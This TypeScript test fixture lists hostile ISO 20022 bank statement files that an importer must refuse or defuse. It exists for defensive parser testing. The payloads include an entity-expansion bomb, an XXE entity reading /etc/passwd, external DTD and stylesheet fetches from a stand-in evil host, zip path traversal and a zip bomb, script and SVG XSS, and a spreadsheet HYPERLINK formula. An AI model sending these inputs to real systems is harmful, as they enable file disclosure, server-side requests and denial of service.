/** Bank statements that are made to do harm: `refused` with a sentence, or `kept` with nothing of the attack in it. */
import { zipOf } from './small-zip.ts';

export type HostileImport = {
  what: string;
  bytes(): Buffer | Promise<Buffer>;
  outcome: 'refused' | 'kept';
};

const largest = 5 * 1024 * 1024;
const head = '<?xml version="1.0" encoding="UTF-8"?>';
const document = (inside: string, before = head) =>
  `${before}<Document xmlns="urn:iso:std:iso:20022:tech:xsd:camt.053.001.02"><BkToCstmrStmt><GrpHdr><MsgId>1</MsgId></GrpHdr>${inside}</BkToCstmrStmt></Document>`;
const balance = (code: string, amount: string) =>
  `<Bal><Tp><CdOrPrtry><Cd>${code}</Cd></CdOrPrtry></Tp><Amt Ccy="NOK">${amount}</Amt><CdtDbtInd>CRDT</CdtDbtInd><Dt><Dt>2026-03-04</Dt></Dt></Bal>`;
const statement = (inside: string, closing = '0') =>
  `<Stmt><Id>1</Id><Acct><Id><Othr><Id>99991111111</Id></Othr></Id></Acct>${balance('OPBD', '0')}${balance('CLBD', closing)}${inside}</Stmt>`;
const entry = (amount: string, text = 'OCR', side = 'CRDT') =>
  `<Ntry><Amt Ccy="NOK">${amount}</Amt><CdtDbtInd>${side}</CdtDbtInd><Sts>BOOK</Sts><BookgDt><Dt>2026-03-04</Dt></BookgDt><AddtlNtryInf>${text}</AddtlNtryInf></Ntry>`;
const file = (inside: string) => Buffer.from(document(statement(inside)));
const filled = (one: string) => one.repeat(Math.floor((largest - 2_000) / one.length));
const sound = () => Buffer.from(document(statement(entry('1'), '1')));
const within = (name: string, depth: number, inner: string) =>
  Array.from({ length: depth }, (_, at) => `<${name}${at}>`).join('') +
  inner +
  Array.from({ length: depth }, (_, at) => `</${name}${depth - 1 - at}>`).join('');

const refused: [what: string, bytes: () => Buffer][] = [
  [
    'entities that grow to gigabytes',
    () =>
      Buffer.from(
        document(
          statement(entry('1', '&l9;')),
          `${head}<!DOCTYPE l [<!ENTITY l0 "lol">${Array.from({ length: 9 }, (_, at) => `<!ENTITY l${at + 1} "${`&l${at};`.repeat(10)}">`).join('')}]>`,
        ),
      ),
  ],
  [
    'an entity that reads a file of the server',
    () =>
      Buffer.from(
        document(
          statement(entry('1', '&x;')),
          `${head}<!DOCTYPE x [<!ENTITY x SYSTEM "file:///etc/passwd">]>`,
        ),
      ),
  ],
  [
    'an entity that asks another server',
    () =>
      Buffer.from(
        document(
          statement(entry('1')),
          `${head}<!DOCTYPE x [<!ENTITY % x SYSTEM "http://evil.example/x.dtd">%x;]>`,
        ),
      ),
  ],
  [
    'a document type elsewhere',
    () => Buffer.from(document('', `${head}<!DOCTYPE x PUBLIC "x" "http://evil.example/">`)),
  ],
  ['an entity that is not said', () => file(entry('1', '&evil;'))],
  ['a hundred thousand levels', () => file('<a>'.repeat(100_000))],
  [
    'names of many kilobytes in each other',
    () => file(within('n'.repeat(20_000), 18, filled('<a/>').slice(0, 1_200_000))),
  ],
  ['half a million elements', () => file(filled('<a/>'))],
  [
    'an element with hundreds of thousands of attributes',
    () => file(`<a ${Array.from({ length: 300_000 }, (_, at) => `a${at}=""`).join(' ')}/>`),
  ],
  ['one field of megabytes', () => file(entry('1', 'x'.repeat(largest - 3_000)))],
  ['one field of cut pieces', () => file(`<a>${filled('<![CDATA[x]]>')}</a>`)],
  ['an amount of a hundred digits', () => file(entry('9'.repeat(100)))],
  ['an amount with a sign', () => file(entry('-1'))],
  ['an amount in powers of ten', () => file(entry('1e9'))],
  ['an amount that is no number', () => file(entry('NaN'))],
  [
    'amounts whose sum is rounded',
    () =>
      file(entry('9999999999999.99').repeat(1_000) + entry('9999999999999.99', 'x', 'DBIT').repeat(1_000)),
  ],
  ['a balance that is a lie', () => Buffer.from(document(statement(entry('1'), '9999999999999.99')))],
  ['a NUL byte', () => file(entry('1', 'a\u0000b'))],
  ['a control character', () => file(entry('1', 'a\u0008b'))],
  ['a NUL byte written as a number', () => file(entry('1', '&#0;'))],
  ['half a character written as a number', () => file(entry('1', '&#xD83D;'))],
  ['UTF-16', () => Buffer.from(`\ufeff${sound()}`, 'utf16le')],
  [
    'bytes that are no UTF-8',
    () => Buffer.concat([sound().subarray(0, 500), Buffer.from([0xc3, 0x28]), sound().subarray(500)]),
  ],
  [
    'UTF-7 by its own word',
    () => Buffer.from(document(statement(entry('1')), '<?xml version="1.0" encoding="UTF-7"?>')),
  ],
  ['half a statement', () => sound().subarray(0, sound().length / 2)],
  ['a statement with another behind it', () => Buffer.concat([sound(), sound()])],
  [
    'a statement with an archive behind it',
    () => Buffer.concat([sound(), zipOf([{ name: '../../evil.js', content: 'alert(1)' }])]),
  ],
  ['an archive', () => zipOf([{ name: '../../etc/cron.d/evil', content: 'x' }])],
  [
    'an archive that unpacks to two hundred megabytes',
    () => zipOf([{ name: 'a.xml', content: Buffer.alloc(200_000_000) }]),
  ],
  ['a web page', () => Buffer.from('<html><script>alert(1)</script></html>')],
  [
    'a vector picture with a script',
    () => Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'),
  ],
  ['a PDF', () => Buffer.from('%PDF-1.7\n%%EOF')],
  ['an emoji cut in half where the fault is told', () => file(entry(`${'x'.repeat(99)}😀${'x'.repeat(20)}`))],
  ['nothing but a byte', () => Buffer.from('<')],
  [
    'a statement without an end',
    () => Buffer.from(document(statement(entry('1'), '1')).replace('</Stmt>', '')),
  ],
  [
    'a style sheet that is run',
    () => Buffer.from(`${head}<?xml-stylesheet type="text/xsl" href="http://evil.example/x.xsl"?><x/>`),
  ],
];
const kept: [what: string, bytes: () => Buffer][] = [
  [
    'cells that a spreadsheet would run',
    () => Buffer.from(document(statement(entry('1', '=HYPERLINK("http://evil.example")'), '1'))),
  ],
  [
    'markup as a text',
    () => Buffer.from(document(statement(entry('1', '&lt;script&gt;alert(1)&lt;/script&gt;'), '1'))),
  ],
  [
    'an emoji at the last place of a text',
    () => Buffer.from(document(statement(entry('1', `${'x'.repeat(139)}😀`), '1'))),
  ],
  [
    'words of the bank’s own in another namespace',
    () => Buffer.from(document(statement(`${entry('1')}<x xmlns="urn:evil"><Ntry>1</Ntry></x>`, '1'))),
  ],
  ['as many entries as there can be', () => file(entry('0').repeat(19_990))],
  ['a comment of megabytes', () => file(`<!--${'x'.repeat(largest - 3_000)}-->`)],
];

/** At least forty. */
export const hostileStatements: HostileImport[] = [
  ...refused.map(([what, bytes]) => ({ what, bytes, outcome: 'refused' as const })),
  ...kept.map(([what, bytes]) => ({ what, bytes, outcome: 'kept' as const })),
];
